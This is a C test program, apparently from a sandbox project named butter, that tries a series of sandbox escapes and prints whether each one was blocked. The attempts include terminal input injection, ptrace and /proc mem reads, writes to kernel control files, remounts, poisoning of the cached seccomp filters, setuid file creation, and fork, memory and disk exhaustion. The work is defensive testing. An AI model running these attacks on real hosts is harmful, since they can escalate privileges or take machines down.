/* hostile: attacks a sandboxed program would try, one per subcommand. Each attempt prints one
 * line, "NAME: blocked ERRNO" or "NAME: ESCAPED DETAIL", so that the tests can assert on every
 * line and show the one that got through. Run outside a sandbox (as root), most of them
 * succeed: the tests do that too, to prove each attack is real.
 *
 *   tty                    TIOCSTI into fds 0-2 and /dev/tty; TIOCLINUX paste
 *   fds [SECRET]           every fd above 2; through a directory fd, openat(fd, SECRET)
 *   ptrace PID             ptrace/process_vm_readv/proc mem of init (pid 1) and PID
 *   handle MOUNTDIR HEX    open_by_handle_at with a host file handle
 *   kernel-files           open /proc/sys, /proc/sysrq-trigger and /sys files for writing
 *   remount                remount /, unmask /proc, pivot_root, new mounts, mount API
 *   userns                 a new user+mount namespace, then the same from inside it
 *   syscalls               io_uring, userfaultfd, keyctl, add_key, perf_event_open, bpf, ...
 *   x32 / int80            getpid through the x32 ABI and through int 0x80
 *   kill PID               signals to a host pid and to every process (-1)
 *   euid                   prints "euid R E" (run as a setuid copy)
 *   daemon TAG             double-fork a daemon that sleeps with TAG in its command line
 *   ignore-term            ignore SIGTERM, then sleep
 *   forkbomb               fork until it fails; prints how many
 *   membomb                allocate and touch memory until killed
 *   fill DIR [MIB]         write DIR/fill until it fails (or MIB MiB are written); prints
 *                          the bytes and the errno (or "cap")
 *   mounts                 the mount points this process sees, one per line
 *   poison-cache DIR       rewrite every compiled seccomp program cached in DIR (butter 0.1's
 *                          seccomp-*.bpf files) to "allow everything"
 *   setuid DIR             make setuid/setgid files and directories in DIR, every way there is
 *   clone3                 clone3 and unshare with each namespace flag (a child that exits)
 *   abstract NAME          connect to the abstract unix socket @NAME
 *   xattr DIR              set a POSIX ACL and a user xattr on DIR (tmpfs ACLs pin kernel memory)
 *   deny-spin N SECONDS    N threads making a denied syscall (acct) as fast as they can
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <time.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <sched.h>
#include <stddef.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int escaped;

static void report(const char* what, long rc, int err) {
    if (rc >= 0) {
        printf("%s: ESCAPED (returned %ld)\n", what, rc);
        escaped = 1;
    } else {
        printf("%s: blocked %s\n", what, strerrorname_np(err) ? strerrorname_np(err) : "?");
    }
    fflush(stdout);
}
#define TRY(what, call)                \
    do {                               \
        errno = 0;                     \
        long rc_ = (long)(call);       \
        report((what), rc_, errno);    \
    } while (0)

static long sys(long nr, long a, long b, long c, long d, long e) {
    return syscall(nr, a, b, c, d, e, 0);
}

static void attack_tty(void) {
    char c = 'X';
    char what[64];
    for (int fd = 0; fd < 3; ++fd) {
        snprintf(what, sizeof what, "TIOCSTI fd %d", fd);
        TRY(what, ioctl(fd, TIOCSTI, &c));
    }
    int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (tty >= 0) {
        TRY("TIOCSTI /dev/tty", ioctl(tty, TIOCSTI, &c));
        close(tty);
    } else {
        report("open /dev/tty", -1, errno);
    }
    char paste = 3; /* TIOCL_PASTESEL: paste the console selection as input */
    TRY("TIOCLINUX paste fd 0", ioctl(0, TIOCLINUX, &paste));
}

static void attack_fds(const char* secret) {
    int open_fds = 0;
    for (int fd = 3; fd < 1024; ++fd) {
        struct stat st;
        if (fstat(fd, &st) < 0) continue;
        ++open_fds;
        printf("fd %d: ESCAPED (open, mode %o)\n", fd, st.st_mode & S_IFMT);
        escaped = 1;
        if (S_ISDIR(st.st_mode) && secret) {
            int f = openat(fd, secret, O_RDONLY | O_CLOEXEC);
            if (f >= 0) printf("openat(fd %d, %s): ESCAPED (host file read)\n", fd, secret);
        }
    }
    if (!open_fds) printf("fds above 2: blocked EBADF\n");
}

// `with_init`: also pid 1. Not in a control run outside the sandbox: there pid 1 is the
// host's init (systemd), and a stop of it would stop the machine.
static void attack_ptrace(pid_t host_pid, int with_init) {
    char what[64];
    pid_t targets[2] = {with_init ? 1 : 0, host_pid};
    for (int i = 0; i < 2; ++i) {
        pid_t p = targets[i];
        if (p <= 0) continue;
        snprintf(what, sizeof what, "PTRACE_ATTACH %d", p);
        long rc = ptrace(PTRACE_ATTACH, p, 0, 0);
        int err = errno;
        report(what, rc, err);
        if (rc == 0) {
            // Detach only works on a stopped tracee: wait for the attach's stop first, or it
            // is left stopped when this process exits.
            int st = 0;
            waitpid(p, &st, __WALL);
            ptrace(PTRACE_DETACH, p, 0, 0);
        }
        snprintf(what, sizeof what, "PTRACE_SEIZE %d", p);
        rc = ptrace(PTRACE_SEIZE, p, 0, 0);
        err = errno;
        report(what, rc, err);
        if (rc == 0) ptrace(PTRACE_DETACH, p, 0, 0);
        char buf[16];
        struct iovec local = {buf, sizeof buf}, remote = {(void*)0x400000, sizeof buf};
        snprintf(what, sizeof what, "process_vm_readv %d", p);
        TRY(what, process_vm_readv(p, &local, 1, &remote, 1, 0));
        snprintf(what, sizeof what, "open /proc/%d/mem", p);
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", p);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        report(what, fd, errno);
        if (fd >= 0) close(fd);
    }
}

static void attack_handle(const char* mount_dir, const char* hex) {
    size_t n = strlen(hex) / 2;
    struct file_handle* h = malloc(sizeof *h + n);
    unsigned type = 0;
    int used = 0;
    sscanf(hex, "%8x%n", &type, &used);
    h->handle_type = (int)type;
    h->handle_bytes = (unsigned)(n - 4);
    for (size_t i = 0; i + 4 < n; ++i) {
        unsigned b;
        sscanf(hex + 8 + 2 * i, "%2x", &b);
        h->f_handle[i] = (unsigned char)b;
    }
    int mfd = open(mount_dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0) {
        report("open mount dir", -1, errno);
        return;
    }
    int fd = open_by_handle_at(mfd, h, O_RDONLY);
    int err = errno;
    report("open_by_handle_at", fd, err);
    if (fd >= 0) {
        char buf[64] = {0};
        if (read(fd, buf, sizeof buf - 1) > 0) printf("read through the handle: %s\n", buf);
    }
    free(h);
}

static void attack_kernel_files(void) {
    const char* files[] = {"/proc/sys/kernel/hostname",
                           "/proc/sys/kernel/core_pattern",
                           "/proc/sys/vm/drop_caches",
                           "/proc/sysrq-trigger",
                           "/proc/sys/fs/binfmt_misc/register",
                           "/sys/kernel/mm/transparent_hugepage/enabled",
                           "/sys/kernel/uevent_helper",
                           "/sys/fs/cgroup/cgroup.procs",
                           "/sys/power/state"};
    char what[128];
    for (size_t i = 0; i < sizeof files / sizeof *files; ++i) {
        /* Opening for writing is the escape; nothing is ever written. */
        int fd = open(files[i], O_WRONLY | O_CLOEXEC);
        int err = errno;
        snprintf(what, sizeof what, "open %s for writing", files[i]);
        report(what, fd, err);
        if (fd >= 0) close(fd);
    }
}

static void attack_remount(void) {
    TRY("remount / read-write", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    TRY("remount /usr read-write", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
    TRY("umount /proc/sys", umount2("/proc/sys", MNT_DETACH));
    TRY("umount /proc/keys mask", umount2("/proc/keys", MNT_DETACH));
    TRY("umount /usr", umount2("/usr", MNT_DETACH));
    TRY("mount tmpfs on /tmp", mount("tmpfs", "/tmp", "tmpfs", 0, NULL));
    TRY("mount proc on /tmp", mount("proc", "/tmp", "proc", 0, NULL));
    TRY("pivot_root", sys(SYS_pivot_root, (long)"/tmp", (long)"/tmp", 0, 0, 0));
    TRY("chroot", chroot("/tmp"));
    TRY("fsopen tmpfs", sys(SYS_fsopen, (long)"tmpfs", 0, 0, 0, 0));
    TRY("open_tree /usr", sys(SYS_open_tree, AT_FDCWD, (long)"/usr", 1 /* CLONE */, 0, 0));
}

static void attack_nested_userns(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        report("unshare(CLONE_NEWUSER|CLONE_NEWNS)", -1, errno);
        return;
    }
    /* Allowed (as in bubblewrap): the new namespaces are below the sandbox's, so the mounts
     * made by butter are locked together. The escapes are the masks and read-only flags. */
    printf("unshare(CLONE_NEWUSER|CLONE_NEWNS): allowed\n");
    TRY("nested: umount /proc/keys mask", umount2("/proc/keys", MNT_DETACH));
    TRY("nested: umount /proc/sys", umount2("/proc/sys", MNT_DETACH));
    TRY("nested: remount /usr read-write",
        mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
    int fd = open("/usr/.butter-hostile", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    report("nested: write /usr", fd, errno);
    if (fd >= 0) {
        close(fd);
        unlink("/usr/.butter-hostile");
    }
}

static void attack_syscalls(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    TRY("io_uring_setup", sys(SYS_io_uring_setup, 8, (long)&p, 0, 0, 0));
    TRY("userfaultfd", sys(SYS_userfaultfd, O_CLOEXEC, 0, 0, 0, 0));
    TRY("keyctl", sys(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0, 0, 0));
    TRY("add_key", sys(SYS_add_key, (long)"user", (long)"butter", (long)"x", 1,
                       KEY_SPEC_PROCESS_KEYRING));
    TRY("request_key", sys(SYS_request_key, (long)"user", (long)"butter", 0, 0, 0));
    struct perf_event_attr pa;
    memset(&pa, 0, sizeof pa);
    pa.size = sizeof pa;
    pa.type = PERF_TYPE_SOFTWARE;
    pa.config = PERF_COUNT_SW_CPU_CLOCK;
    pa.exclude_kernel = 1;
    TRY("perf_event_open", sys(SYS_perf_event_open, (long)&pa, 0, -1, -1, 0));
    char attr[128];
    memset(attr, 0, sizeof attr);
    TRY("bpf", sys(SYS_bpf, 0 /* BPF_MAP_CREATE */, (long)attr, sizeof attr, 0, 0));
    TRY("init_module", sys(SYS_init_module, 0, 0, (long)"", 0, 0));
    /* Harmless where allowed: invalid flags, a missing file, a no-op time change. */
    TRY("kexec_load", sys(SYS_kexec_load, 0, 0, 0, 0xffff0000L, 0));
    TRY("settimeofday", sys(SYS_settimeofday, 0, 0, 0, 0, 0));
    TRY("acct", sys(SYS_acct, (long)"/nonexistent/acct", 0, 0, 0, 0));
    TRY("swapoff", sys(SYS_swapoff, (long)"/nonexistent", 0, 0, 0, 0));
}

static void attack_x32(void) {
    errno = 0;
    long rc = syscall(0x40000000 | SYS_getpid);
    report("x32 getpid", rc, errno);
}

static void attack_int80(void) {
    long rc = 20; /* i386 getpid */
    __asm__ volatile("int $0x80" : "+a"(rc) : : "memory");
    report("int 0x80 getpid", rc, rc < 0 ? (int)-rc : 0);
}

static void attack_kill(pid_t host_pid) {
    char what[64];
    snprintf(what, sizeof what, "kill(%d, 0)", host_pid);
    TRY(what, kill(host_pid, 0));
    snprintf(what, sizeof what, "kill(%d, SIGKILL)", host_pid);
    TRY(what, kill(host_pid, SIGKILL));
    /* -1: every process this one may signal; in a pid namespace only the sandbox's own. Only
     * ever inside a butter sandbox: anywhere else it would be a real attack on the host. */
    char comm[32] = {0};
    FILE* f = fopen("/proc/1/comm", "re");
    if (!f || !fgets(comm, sizeof comm, f) || strcmp(comm, "butter-init\n") != 0) {
        printf("kill(-1, SIGKILL): skipped (not inside butter)\n");
        if (f) fclose(f);
        return;
    }
    fclose(f);
    // A sandboxed bystander, so that kill(-1) has someone to reach inside.
    pid_t bystander = fork();
    if (bystander == 0) {
        for (;;) pause();
    }
    errno = 0;
    int rc = kill(-1, SIGKILL);
    int saved = errno;
    int st = 0;
    if (bystander > 0) waitpid(bystander, &st, 0);
    if (rc != 0)
        printf("kill(-1, SIGKILL): %s\n", strerrorname_np(saved));
    else
        printf("kill(-1, SIGKILL): delivered (inside the sandbox only%s)\n",
               WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL ? ", bystander killed" : "");
}

static void daemon_loop(const char* tag) {
    (void)tag;
    for (;;) pause();
}

static int fork_daemon(const char* self, const char* tag) {
    pid_t p = fork();
    if (p < 0) return 1;
    if (p == 0) {
        setsid();
        pid_t q = fork();
        if (q == 0) {
            signal(SIGHUP, SIG_IGN);
            signal(SIGTERM, SIG_IGN);
            execl(self, self, "daemon-loop", tag, (char*)NULL);
            _exit(127);
        }
        _exit(q < 0);
    }
    int st;
    waitpid(p, &st, 0);
    printf("daemon: started\n");
    return 0;
}

static int forkbomb(void) {
    int n = 0;
    for (;;) {
        pid_t p = fork();
        if (p < 0) {
            printf("forkbomb: stopped after %d (%s)\n", n, strerrorname_np(errno));
            fflush(stdout);
            kill(0, SIGKILL);
            return 0;
        }
        if (p == 0) {
            pause();
            _exit(0);
        }
        ++n;
    }
}

// membomb [shared]: private (or shared) anonymous memory, written, until mmap fails.
static int membomb(const char* kind) {
    int flags = (kind && !strcmp(kind, "shared") ? MAP_SHARED : MAP_PRIVATE) | MAP_ANONYMOUS;
    size_t total = 0;
    for (;;) {
        size_t chunk = 16 << 20;
        char* m = mmap(NULL, chunk, PROT_READ | PROT_WRITE, flags, -1, 0);
        if (m == MAP_FAILED) {
            printf("membomb: mmap failed after %zu MiB\n", total >> 20);
            return 0;
        }
        memset(m, 1, chunk);
        total += chunk;
    }
}

static int fill(const char* dir, const char* cap_mib) {
    unsigned long long cap = cap_mib ? strtoull(cap_mib, NULL, 10) << 20 : 0;
    char path[4096];
    snprintf(path, sizeof path, "%s/fill", dir);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) {
        report("open fill", -1, errno);
        return 0;
    }
    signal(SIGXFSZ, SIG_IGN); /* a file size limit then shows as EFBIG */
    static char buf[1 << 20];
    memset(buf, 'x', sizeof buf);
    unsigned long long total = 0;
    for (;;) {
        ssize_t n = write(fd, buf, sizeof buf);
        if (n <= 0) {
            printf("fill: %llu bytes, then %s\n", total, n < 0 ? strerrorname_np(errno) : "0");
            return 0;
        }
        total += (unsigned long long)n;
        if (cap && total >= cap) {
            printf("fill: %llu bytes, then cap\n", total);
            return 0;
        }
    }
}

/* butter 0.1's seccomp cache: a 32-byte header (magic, key hash, instruction count, flags,
 * errno, reserved), the instructions, the key. Each instruction becomes "return ALLOW". */
/* clone3 (the flags in memory, where seccomp cannot look) and unshare, each namespace. */
static void attack_clone3(void) {
    static const struct {
        const char* name;
        unsigned long long flag;
    } kinds[] = {
        {"CLONE_NEWUSER", CLONE_NEWUSER},
        {"CLONE_NEWNS", CLONE_NEWNS},
        {"CLONE_NEWNET", CLONE_NEWNET},
        {"CLONE_NEWPID", CLONE_NEWPID},
        {"CLONE_NEWUTS", CLONE_NEWUTS},
        {"CLONE_NEWIPC", CLONE_NEWIPC},
        {"CLONE_NEWCGROUP", CLONE_NEWCGROUP},
        {"CLONE_NEWUSER|CLONE_NEWNET", CLONE_NEWUSER | CLONE_NEWNET},
    };
    char what[96];
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; ++i) {
        struct clone_args args;
        memset(&args, 0, sizeof args);
        args.flags = kinds[i].flag;
        args.exit_signal = SIGCHLD;
        errno = 0;
        long pid = syscall(SYS_clone3, &args, sizeof args);
        if (pid == 0) _exit(0);
        int err = errno;
        if (pid > 0) waitpid((pid_t)pid, NULL, 0);
        snprintf(what, sizeof what, "clone3(%s)", kinds[i].name);
        report(what, pid, err);
        pid_t child = fork();
        if (child == 0) _exit(unshare((int)kinds[i].flag) == 0 ? 0 : errno);
        int st = 0;
        waitpid(child, &st, 0);
        snprintf(what, sizeof what, "unshare(%s)", kinds[i].name);
        int code = WIFEXITED(st) ? WEXITSTATUS(st) : 255;
        report(what, code == 0 ? 0 : -1, code);
    }
}

static void attack_abstract(const char* name) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    size_t n = strlen(name);
    if (n > sizeof a.sun_path - 2) n = sizeof a.sun_path - 2;
    memcpy(a.sun_path + 1, name, n);
    char what[160];
    snprintf(what, sizeof what, "connect @%s", name);
    TRY(what,
        connect(s, (struct sockaddr*)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)));
}

static void attack_xattr(const char* dir) {
    /* A minimal access ACL: user::rwx, group::r-x, other::r-x (version 2). */
    struct {
        uint32_t version;
        struct {
            uint16_t tag, perm;
            uint32_t id;
        } e[3];
    } acl = {2, {{0x01, 7, 0xffffffff}, {0x04, 5, 0xffffffff}, {0x20, 5, 0xffffffff}}};
    TRY("setxattr system.posix_acl_access",
        setxattr(dir, "system.posix_acl_access", &acl, sizeof acl, 0));
    TRY("setxattr system.posix_acl_default",
        setxattr(dir, "system.posix_acl_default", &acl, sizeof acl, 0));
    TRY("lsetxattr user.butter", lsetxattr(dir, "user.butter", "x", 1, 0));
    int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    TRY("fsetxattr user.butter", fsetxattr(fd, "user.butter", "x", 1, 0));
    close(fd);
}

static time_t spin_until;
static void* deny_spin_thread(void* arg) {
    long* count = arg;
    while (time(NULL) < spin_until)
        for (int i = 0; i < 1000; ++i, ++*count)
            syscall(SYS_acct, 0);
    return NULL;
}

static int deny_spin(int threads, int seconds) {
    pthread_t t[64];
    long counts[64] = {0};
    if (threads > 64) threads = 64;
    spin_until = time(NULL) + seconds;
    for (int i = 0; i < threads; ++i) pthread_create(&t[i], NULL, deny_spin_thread, &counts[i]);
    long total = 0;
    for (int i = 0; i < threads; ++i) {
        pthread_join(t[i], NULL);
        total += counts[i];
    }
    printf("deny-spin: %ld calls\n", total);
    return 0;
}

static int poison_cache(const char* dir) {
    char cmd[4200];
    snprintf(cmd, sizeof cmd, "ls %s/seccomp-*.bpf 2>/dev/null", dir);
    FILE* ls = popen(cmd, "r");
    int rewritten = 0;
    char path[4096];
    while (ls && fgets(path, sizeof path, ls)) {
        path[strcspn(path, "\n")] = 0;
        int fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd < 0) {
            report("open cached program", -1, errno);
            continue;
        }
        unsigned char hdr[32];
        if (pread(fd, hdr, sizeof hdr, 0) != (ssize_t)sizeof hdr) continue;
        uint32_t insns;
        memcpy(&insns, hdr + 16, sizeof insns);
        for (uint32_t i = 0; i < insns; ++i) {
            /* BPF_RET | BPF_K, SECCOMP_RET_ALLOW */
            unsigned char allow[8] = {0x06, 0, 0, 0, 0, 0, 0xff, 0x7f};
            if (pwrite(fd, allow, sizeof allow, 32 + 8 * (off_t)i) != (ssize_t)sizeof allow) {
                report("rewrite cached program", -1, errno);
                break;
            }
        }
        close(fd);
        ++rewritten;
    }
    if (ls) pclose(ls);
    printf("poison-cache: %d programs rewritten\n", rewritten);
    return 0;
}

/* One attempt at a set-id file: the call's result, then what the file really got. */
static void setid_result(const char* what, const char* path, long rc, int err) {
    struct stat st;
    if (rc < 0) {
        report(what, rc, err);
    } else if (stat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) {
        printf("%s: ESCAPED (mode %o, owner %d)\n", what, st.st_mode & 07777, (int)st.st_uid);
        escaped = 1;
    } else {
        printf("%s: blocked (no set-id bit)\n", what);
    }
}

static void attack_setuid(const char* dir, const char* self) {
    char path[4096];
#define SETID(name, call)                                      \
    do {                                                       \
        snprintf(path, sizeof path, "%s/%s", dir, name);       \
        errno = 0;                                             \
        long rc_ = (long)(call);                               \
        setid_result(name, path, rc_ < 0 ? rc_ : 0, errno);    \
    } while (0)
    /* A copy of this program, then chmod 6755 (cp + chmod u+s). */
    snprintf(path, sizeof path, "%s/suid-chmod", dir);
    {
        char cmd[8400];
        snprintf(cmd, sizeof cmd, "cp %s %s", self, path);
        if (system(cmd) != 0) printf("copy: failed\n");
    }
    SETID("suid-chmod", chmod(path, 06755));
    SETID("suid-fchmodat", (close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755)),
                            fchmodat(AT_FDCWD, path, 04755, 0)));
    SETID("suid-fchmod", ({
              int fd_ = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
              long r_ = fd_ < 0 ? -1 : fchmod(fd_, 02755);
              if (fd_ >= 0) close(fd_);
              r_;
          }));
    SETID("suid-open", ({
              int fd_ = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 04755);
              if (fd_ >= 0) close(fd_);
              fd_;
          }));
    SETID("suid-openat", ({
              int fd_ = (int)syscall(SYS_openat, AT_FDCWD, path,
                                     O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 06755);
              if (fd_ >= 0) close(fd_);
              fd_;
          }));
    SETID("suid-creat", ({
              int fd_ = creat(path, 04755);
              if (fd_ >= 0) close(fd_);
              fd_;
          }));
    SETID("suid-mknod", mknod(path, S_IFREG | 04755, 0));
    SETID("sgid-mkdir", mkdir(path, 02755));
    SETID("sgid-mkdirat", mkdirat(AT_FDCWD, path, 02775));
#undef SETID
}

static int mounts(void) {
    FILE* f = fopen("/proc/self/mountinfo", "re");
    if (!f) return 1;
    char line[4096];
    while (fgets(line, sizeof line, f)) {
        char point[4096];
        if (sscanf(line, "%*s %*s %*s %*s %4095s", point) == 1) printf("%s\n", point);
    }
    fclose(f);
    return 0;
}

int main(int argc, char** argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: hostile ATTACK [ARGS]\n");
        return 2;
    }
    const char* cmd = argv[1];
    const char* arg = argc > 2 ? argv[2] : NULL;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(cmd, "tty")) attack_tty();
    else if (!strcmp(cmd, "fds")) attack_fds(arg);
    else if (!strcmp(cmd, "ptrace"))
        attack_ptrace(arg ? atoi(arg) : 0, !(argc > 3 && !strcmp(argv[3], "no-init")));
    else if (!strcmp(cmd, "handle") && argc > 3) attack_handle(argv[2], argv[3]);
    else if (!strcmp(cmd, "kernel-files")) attack_kernel_files();
    else if (!strcmp(cmd, "remount")) attack_remount();
    else if (!strcmp(cmd, "userns")) attack_nested_userns();
    else if (!strcmp(cmd, "syscalls")) attack_syscalls();
    else if (!strcmp(cmd, "x32")) attack_x32();
    else if (!strcmp(cmd, "int80")) attack_int80();
    else if (!strcmp(cmd, "kill") && arg) attack_kill(atoi(arg));
    else if (!strcmp(cmd, "euid")) printf("euid %d %d\n", (int)getuid(), (int)geteuid());
    else if (!strcmp(cmd, "daemon") && arg) return fork_daemon(argv[0], arg);
    else if (!strcmp(cmd, "daemon-loop")) daemon_loop(arg);
    else if (!strcmp(cmd, "ignore-term")) {
        signal(SIGTERM, SIG_IGN);
        printf("ignoring SIGTERM\n");
        for (;;) pause();
    } else if (!strcmp(cmd, "forkbomb")) return forkbomb();
    else if (!strcmp(cmd, "membomb")) return membomb(arg);
    else if (!strcmp(cmd, "fill") && arg) return fill(arg, argc > 3 ? argv[3] : NULL);
    else if (!strcmp(cmd, "mounts")) return mounts();
    else if (!strcmp(cmd, "poison-cache") && arg) return poison_cache(arg);
    else if (!strcmp(cmd, "setuid") && arg) attack_setuid(arg, argv[0]);
    else if (!strcmp(cmd, "clone3")) attack_clone3();
    else if (!strcmp(cmd, "abstract") && arg) attack_abstract(arg);
    else if (!strcmp(cmd, "xattr") && arg) attack_xattr(arg);
    else if (!strcmp(cmd, "deny-spin") && argc > 3) return deny_spin(atoi(argv[2]), atoi(argv[3]));
    else {
        fprintf(stderr, "hostile: unknown attack '%s'\n", cmd);
        return 2;
    }
    return escaped;
}
